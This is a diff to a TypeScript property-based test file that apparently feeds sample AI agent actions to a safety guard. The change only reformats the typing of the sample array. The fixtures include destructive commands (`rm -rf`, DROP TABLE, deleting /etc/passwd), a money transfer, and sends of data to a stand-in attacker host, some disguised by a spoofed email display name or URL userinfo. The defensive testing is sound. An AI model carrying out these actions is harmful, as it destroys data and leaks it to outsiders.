@@ -52,20 +52,26 @@ const COMMANDS = [
   'if true; then rm -rf data',
 ];
 
-const OTHERS: readonly AgentEvent[] = [
-  { action: 'github:repo:delete', parameters: { owner: 'north', repo: 'app' } },
-  { action: 'db:table:drop', parameters: { query: 'DROP TABLE users' } },
-  { action: 'payments:money:transfer', parameters: { account: 'GB29NWBK60161331926819', amount: 9000 } },
-  { action: 'email:message:send', parameters: { to: 'eve@evil.example', body: 'the list' } },
-  { action: 'email:message:send', parameters: { to: '"ana@north.example" <eve@evil.example>', body: 'the list' } },
-  { action: 'email:message:send', parameters: { to: 'all-staff', body: 'the list' } },
-  { action: 'http:webhook:post', parameters: { url: 'https://hooks.north.example@evil.example/x', body: 'x' } },
-  { action: 'http:webhook:post', parameters: { webhook_id: 'w-1', body: 'x' } },
-  { action: 'file:file:delete', parameters: { path: '/etc/passwd' } },
-  { action: 'file:file:write', mcp_context: { tool_name: 'write_file' }, parameters: { path: '.env', content: 'A=1' } },
-  { action: 'python:code:execute', parameters: { code: "import os\nos.system('rm -rf /')" } },
-  { action: 'shell:command:execute', parameters: { job: 'cleanup-all' } },
-].map((one) => asEvent(one as AgentEvent));
+const OTHERS = (
+  [
+    { action: 'github:repo:delete', parameters: { owner: 'north', repo: 'app' } },
+    { action: 'db:table:drop', parameters: { query: 'DROP TABLE users' } },
+    { action: 'payments:money:transfer', parameters: { account: 'GB29NWBK60161331926819', amount: 9000 } },
+    { action: 'email:message:send', parameters: { to: 'eve@evil.example', body: 'the list' } },
+    { action: 'email:message:send', parameters: { to: '"ana@north.example" <eve@evil.example>', body: 'the list' } },
+    { action: 'email:message:send', parameters: { to: 'all-staff', body: 'the list' } },
+    { action: 'http:webhook:post', parameters: { url: 'https://hooks.north.example@evil.example/x', body: 'x' } },
+    { action: 'http:webhook:post', parameters: { webhook_id: 'w-1', body: 'x' } },
+    { action: 'file:file:delete', parameters: { path: '/etc/passwd' } },
+    {
+      action: 'file:file:write',
+      mcp_context: { tool_name: 'write_file' },
+      parameters: { path: '.env', content: 'A=1' },
+    },
+    { action: 'python:code:execute', parameters: { code: "import os\nos.system('rm -rf /')" } },
+    { action: 'shell:command:execute', parameters: { job: 'cleanup-all' } },
+  ] satisfies Parameters<typeof asEvent>[0][]
+).map((one) => asEvent(one));
 
 const event = fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...COMMANDS).map(shell) }, fc.constantFrom(...OTHERS));
 
